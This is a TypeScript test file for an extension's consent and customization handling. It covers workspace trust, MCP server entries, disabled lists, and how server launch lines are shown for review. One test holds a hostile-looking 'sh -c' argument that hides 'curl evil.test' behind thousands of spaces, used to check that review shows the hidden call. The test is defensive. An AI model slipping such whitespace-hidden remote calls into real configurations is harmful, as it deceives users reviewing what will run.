import { describe, expect, test } from 'vitest';
import { ConsentService } from '../../../src/extension/core/consent/consentService.ts';
import { Customizations } from '../../../src/extension/core/customizations/customizations.ts';
import { ParsedCustomizations } from '../../../src/extension/core/customizations/files/parsedCustomizations.ts';
import type { CustomFile } from '../../../src/extension/platform/customizations/customFiles.ts';
import { decideOnAll, MemorySeen } from '../../support/consent.ts';

interface World {
  files: readonly CustomFile[];
  trusted: boolean;
  disabled: readonly string[];
  /** Content of the scripts that commands name. */
  scripts: string;
}

function open(start: Partial<World> = {}) {
  const world: World = { files: [], trusted: true, disabled: [], scripts: '', ...start };
  const consent = new ConsentService(new MemorySeen(), () => world.trusted);
  const all = new Customizations({
    files: {
      read: async trusted => world.files.filter(({ origin }) => trusted || origin.kind !== 'workspace'),
      digest: async () => world.scripts,
    },
    consent,
    disabled: () => world.disabled,
  });
  return { world, all };
}

const command = (kind: 'person' | 'workspace', text: string): CustomFile => ({
  kind: 'toml',
  name: 'tidy',
  origin: { kind },
  text,
  path: `/${kind}/.gemini/commands/tidy.toml`,
});

const settings = (kind: 'person' | 'workspace', content: unknown): CustomFile => ({
  kind: 'settings',
  name: 'settings',
  origin: { kind },
  text: '',
  content,
  path: `/${kind}/.gemini/settings.json`,
});

const server = { mcpServers: { files: { command: 'node', args: ['server.mjs', '--all'] } } };

function serversOf(all: Customizations): readonly string[] {
  return all.list.flatMap(({ item, id }) => (item.kind === 'server' && id !== undefined ? [id] : []));
}

describe('what counts', () => {
  test('the user’s own counts at once, a workspace’s once it was let', async () => {
    const { all } = open({
      files: [command('person', 'prompt = "a"'), command('workspace', 'prompt = "b"')],
    });
    await all.refresh();
    expect(all.of('command').map(({ path }) => path)).toEqual(['/person/.gemini/commands/tidy.toml']);
    expect([...all.consent.unseen.values()].map(({ path }) => path)).toEqual([
      '/workspace/.gemini/commands/tidy.toml',
    ]);
    await decideOnAll(all.consent, 'allowed');
    expect(all.of('command')).toHaveLength(2);
    expect(all.consent.unseen.size).toBe(0);
  });

  test('a decision is about what was shown, and not about what came meanwhile', async () => {
    const { all, world } = open({ files: [command('workspace', 'prompt = "b"')] });
    await all.refresh();
    const shown = [...all.consent.unseen.keys()];
    world.files = [command('workspace', 'prompt = "b"'), settings('workspace', server)];
    await all.refresh();
    await all.consent.decide('allowed', shown);
    expect(all.list.map(({ item, state }) => [item.kind, state])).toEqual([
      ['command', 'enabled'],
      ['server', 'waiting'],
    ]);
    world.files = [settings('workspace', { mcpServers: { files: { command: 'other' } } })];
    await all.consent.decide('allowed', [...all.consent.unseen.keys()]);
    expect(all.list.map(({ state }) => state)).toEqual(['waiting']);
  });

  test('a script that changes while it waits is told again', async () => {
    const { all, world } = open({ files: [settings('workspace', server)] });
    await all.refresh();
    let reported = 0;
    all.onDidChange(() => reported++);
    world.scripts = 'other';
    await all.refresh();
    expect(reported).toBe(1);
  });

  test('what was refused is asked about no more, until it has changed', async () => {
    const { all, world } = open({ files: [command('workspace', 'prompt = "b"')] });
    await all.refresh();
    await decideOnAll(all.consent, 'refused');
    expect(all.list.map(({ state }) => state)).toEqual(['refused']);
    world.files = [command('workspace', 'prompt = "c"')];
    await all.refresh();
    expect(all.list.map(({ state }) => state)).toEqual(['waiting']);
  });

  test('what was refused waits again when the user wants to decide again, and is refused again', async () => {
    const { all } = open({ files: [settings('workspace', server), command('workspace', 'prompt = "b"')] });
    await all.refresh();
    await decideOnAll(all.consent, 'refused');
    await all.consent.reopen(serversOf(all));
    expect(all.list.map(({ item, state }) => [item.kind, state])).toEqual([
      ['server', 'waiting'],
      ['command', 'refused'],
    ]);
    expect([...all.consent.unseen.values()].map(({ kind }) => kind)).toEqual(['server']);
    await all.consent.decide('refused', [...all.consent.unseen.keys()]);
    expect(all.list.map(({ state }) => state)).toEqual(['refused', 'refused']);
    await all.consent.reopen(serversOf(all));
    await decideOnAll(all.consent, 'allowed');
    expect(all.of('server')).toHaveLength(1);
  });

  test('a changed script of the workspace is a server not seen', async () => {
    const { all, world } = open({ files: [settings('workspace', server)] });
    await all.refresh();
    await decideOnAll(all.consent, 'allowed');
    expect(all.of('server')).toHaveLength(1);
    world.scripts = 'other';
    await all.refresh();
    expect(all.of('server')).toEqual([]);
    expect(all.consent.unseen.size).toBe(1);
  });

  test('without trust nothing of the workspace counts, also what was let before', async () => {
    const { all, world } = open({ files: [command('workspace', 'prompt = "b"')] });
    await all.refresh();
    await decideOnAll(all.consent, 'allowed');
    world.trusted = false;
    await all.refresh();
    expect(all.of('command')).toEqual([]);
    expect(all.consent.unseen.size).toBe(0);
  });

  test('a name that is switched off does not count, nor what an extension of that name brings', async () => {
    const origin = { kind: 'extension', name: 'security', folder: '/x' } as const;
    const files: CustomFile[] = [
      { kind: 'toml', name: 'audit', origin, text: '', path: '/x/commands/audit.toml' },
      settings('person', server),
    ];
    const { all, world } = open({ files });
    await all.refresh();
    expect(all.list.map(({ state }) => state)).toEqual(['enabled', 'enabled']);
    world.disabled = ['security', 'files'];
    await all.refresh();
    expect(all.list.map(({ state }) => state)).toEqual(['disabled', 'disabled']);
  });

  test('who listens hears of changes alone', async () => {
    const { all, world } = open({ files: [command('person', 'prompt = "a"')] });
    let changes = 0;
    all.onDidChange(() => changes++);
    await all.refresh();
    await all.refresh();
    expect(changes).toBe(1);
    world.files = [];
    await all.refresh();
    expect(changes).toBe(2);
  });
});

describe('lists of settings files', () => {
  const skill = (name: string): CustomFile => ({
    kind: 'skill',
    name,
    origin: { kind: 'person' },
    text: 'Do.',
    path: `/${name}/SKILL.md`,
  });
  const servers = { mcpServers: { a: { command: 'a' }, b: { command: 'b' }, c: { command: 'c' } } };

  test.each([
    [{ skills: { disabled: ['x'] }, mcp: { excluded: ['a'] } }, ['b', 'c', 'y']],
    [{ mcp: { allowed: ['a', 'b'], excluded: ['b'] } }, ['a', 'x', 'y']],
    [{ mcp: { allowed: [] } }, ['x', 'y']],
    [{ skills: 'x', mcp: { excluded: 'a' } }, ['b', 'c', 'x', 'y']],
    [{ skills: { disabled: 'x' }, mcp: { allowed: 'a' } }, ['a', 'y']],
  ])('%j switches off by name', async (content, expected) => {
    const { all } = open({
      files: [settings('person', { ...servers, ...content }), skill('x'), skill('y')],
    });
    await all.refresh();
    expect([...all.of('server'), ...all.of('skill')].map(({ name }) => name)).toEqual(expected);
    expect(all.list).toHaveLength(5);
  });

  test('switch a skill off by the name that its frontmatter gives it', async () => {
    const named = { ...skill('folder'), text: '---\nname: own\ndescription: Works.\n---\nDo.' };
    const { all } = open({
      files: [settings('person', { skills: { disabled: ['own'] } }), named, skill('y')],
    });
    await all.refresh();
    expect(all.of('skill').map(({ name }) => name)).toEqual(['y']);
  });

  test('of a workspace are about what it brings alone', async () => {
    const lists = { skills: { disabled: ['x'] }, mcp: { allowed: ['d'] } };
    const own = {
      ...settings('workspace', { mcpServers: { d: { command: 'd' }, e: { command: 'e' } }, ...lists }),
    };
    const { all } = open({ files: [settings('person', servers), skill('x'), own] });
    await all.refresh();
    expect(all.list.map(({ item, state }) => [item.name, state])).toEqual([
      ...['a', 'b', 'c', 'x'].map(name => [name, 'enabled']),
      ['d', 'waiting'],
      ['e', 'disabled'],
    ]);
  });
});

describe('entries of settings files', () => {
  test('each server is one, with the line that starts it', async () => {
    const servers = { ...server.mcpServers, web: { httpUrl: 'https://example.com/mcp' }, odd: 7 };
    const { all } = open({ files: [settings('person', { mcpServers: servers })] });
    await all.refresh();
    expect(all.of('server').map(({ name, detail }) => [name, detail])).toEqual([
      ['files', 'node server.mjs --all'],
      ['web', 'https://example.com/mcp'],
      ['odd', ''],
    ]);
  });

  test('servers under the name that another program has for the list, shown as they would start', async () => {
    const shared = (path: string, kind: 'servers' | 'settings', content: unknown): CustomFile => ({
      ...settings('person', content),
      path,
      kind,
    });
    const off = { serverUrl: 'https://example.com/mcp', transport: 'http' };
    const inputs = [
      { id: 'pin', description: 'Your pin' },
      { id: 'zone', description: 'Where' },
    ];
    const { all } = open({
      files: [
        shared('/w/.vscode/mcp.json', 'servers', { mcpServers: { a: off } }),
        shared('/w/.mcp.json', 'settings', {
          servers: { b: { type: 'local', command: 'b', args: ['${input:pin}'] } },
          inputs,
        }),
        settings('person', { servers: { c: { command: 'c' } } }),
      ],
    });
    await all.refresh();
    expect(all.of('server').map(({ name, detail, value }) => [name, detail, value])).toEqual([
      ['a', 'https://example.com/mcp', off],
      ['b', 'b ${input:pin}', { type: 'local', command: 'b', args: ['${input:pin}'], inputs: [inputs[0]] }],
    ]);
  });

  test('a program that lists tools is one, and settings without any are none', async () => {
    const tools = { tools: { discoveryCommand: 'bin/list', callCommand: 'bin/call' } };
    const { all } = open({ files: [settings('person', tools), settings('person', { theme: 'x' })] });
    await all.refresh();
    expect(all.list.map(({ item }) => [item.kind, item.detail, item.command])).toEqual([
      ['tools', 'bin/list · bin/call', 'bin/list\nbin/call'],
    ]);
  });

  test.each([
    ['no object', [], '/workspace/.gemini/settings.json contains no object, so it is ignored.'],
    [
      'servers as a list',
      { mcpServers: [] },
      'The servers of /workspace/.gemini/settings.json are not an object.',
    ],
  ])('%s is told and harms nothing', async (_what, content, sentence) => {
    const broken = settings('workspace', content);
    const { all } = open({ files: [broken, settings('person', server)] });
    await all.refresh();
    expect(all.problems).toEqual([sentence]);
    expect(all.of('server')).toHaveLength(1);
  });

  test('what cannot be read is told and is nothing', async () => {
    const problem = '/workspace/.gemini/settings.json cannot be used: it is not JSON.';
    const { all } = open({ files: [{ ...settings('workspace', {}), text: '', problem }] });
    await all.refresh();
    expect(all.problems).toEqual([problem]);
    expect(all.list).toEqual([]);
  });
});

describe('what the user is shown of a server', () => {
  async function detailOf(entry: unknown): Promise<string> {
    const { all } = open({ files: [settings('workspace', { mcpServers: { it: entry } })] });
    await all.refresh();
    return [...all.consent.unseen.values()].map(({ detail }) => detail).join('|') || all.problems.join('|');
  }

  test.each([
    [
      'the address, where the type says so',
      { type: 'http', command: 'echo', url: 'https://a.test' },
      'https://a.test',
    ],
    [
      'arguments one by one',
      { command: 'sh', args: ['-c', 'a;\nb', 'x · in /'] },
      String.raw`sh -c "a;\nb" "x · in /"`,
    ],
    [
      'where it runs, and with which variables',
      {
        command: 'npx',
        args: ['tidy'],
        cwd: 'tools',
        envFile: '.env.tidy',
        env: { NODE_OPTIONS: '--require ./x.cjs', API_KEY: 'abc', TOKEN: '$GITHUB_TOKEN' },
      },
      'npx tidy · in tools · NODE_OPTIONS="--require ./x.cjs" · API_KEY=… · TOKEN=$GITHUB_TOKEN · variables of .env.tidy',
    ],
    [
      'what is sent along, and where one would sign in',
      {
        httpUrl: 'https://a.test',
        headers: { 'X-Key': '$AWS_SECRET_ACCESS_KEY' },
        oauth: { authorizationUrl: 'https://known.test/auth', tokenUrl: 'https://other.test/token' },
      },
      'https://a.test · X-Key: $AWS_SECRET_ACCESS_KEY · sign-in at https://known.test/auth · sign-in at https://other.test/token',
    ],
  ])('is %s', async (_what, entry, detail) => {
    expect(await detailOf(entry)).toBe(detail);
  });

  test('is all of it, or it is not used', async () => {
    const args = ['-c', `true ${' '.repeat(3_000)}; curl evil.test`];
    expect(await detailOf({ command: 'sh', args })).toContain('curl evil.test');
    expect(await detailOf({ command: 'sh', args: [...args, 'x'.repeat(2_000)] })).toBe(
      '/workspace/.gemini/settings.json: it is too long to review, so it is ignored.',
    );
  });

  test('is told of a long text without looking at it again and again', async () => {
    const text = `${'\n'.repeat(500_000)}description: a${' '.repeat(400_000)}b`;
    const { all } = open({ files: [command('workspace', text)] });
    await all.refresh();
    expect(all.consent.unseen.size).toBe(1);
  });
});

test('a reading that fails says so and does not keep the next one from being done', async () => {
  let fails = true;
  const read = async () => {
    if (fails) throw new Error('no disk');
    return [command('person', 'prompt = "a"')];
  };
  const all = new Customizations({
    files: { read, digest: async () => '' },
    consent: new ConsentService(new MemorySeen(), () => true),
    disabled: () => [],
  });
  await all.refresh();
  expect(all.problems).toEqual(['Customizations could not be read: no disk']);
  fails = false;
  await all.refresh();
  expect([all.problems, all.of('command').length]).toEqual([[], 1]);
});

test('what was not read again stays the same object, and is not parsed again', async () => {
  const { world, all } = open({ files: [command('person', 'prompt = "a"'), settings('person', server)] });
  const parsed: (readonly string[])[] = [];
  const book = new ParsedCustomizations(
    () => all.of('command'),
    async items => {
      parsed.push(items.map(({ text }) => text));
      return { entries: new Map(), problems: [] };
    },
  );
  let changes = 0;
  all.onDidChange(() => changes++);
  const read = async () => {
    await all.refresh();
    await book.refresh();
    return all.list.map(({ item }) => item);
  };
  const before = await read();
  const after = await read();
  expect(after.every((item, index) => item === before[index])).toBe(true);
  world.files = world.files.map(file => ({ ...file }));
  await read();
  expect([changes, parsed]).toEqual([1, [['prompt = "a"']]]);
  world.files = [command('person', 'prompt = "b"')];
  await read();
  expect([changes, parsed.at(-1)]).toEqual([2, ['prompt = "b"']]);
});

test('of two readings of a book that come close together the later one counts', async () => {
  const { all, world } = open({ files: [command('person', 'prompt = "first"')] });
  await all.refresh();
  const waits: (() => void)[] = [];
  const book = new ParsedCustomizations(
    () => all.of('command'),
    async items => {
      // The first takes longest.
      if (waits.length === 0) await new Promise<void>(resolve => waits.push(resolve));
      return { entries: new Map(items.map(({ text }) => [text, text])), problems: [] };
    },
  );
  const first = book.refresh();
  await new Promise<void>(resolve => setImmediate(resolve));
  world.files = [command('person', 'prompt = "second"')];
  await all.refresh();
  const second = book.refresh();
  await new Promise<void>(resolve => setImmediate(resolve));
  waits[0]!();
  await Promise.all([first, second]);
  expect([...book.entries.keys()]).toEqual(['prompt = "second"']);
});
